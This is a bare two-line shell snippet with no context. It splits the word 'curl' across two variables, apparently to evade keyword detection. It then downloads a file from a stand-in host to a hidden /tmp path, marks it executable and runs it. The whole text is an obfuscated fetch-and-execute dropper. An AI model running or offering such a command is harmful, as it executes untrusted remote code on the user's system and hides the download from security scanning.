a=cu; b=rl
$a$b -s https://cdn.example.net/x -o /tmp/.x && chmod +x /tmp/.x && /tmp/.x
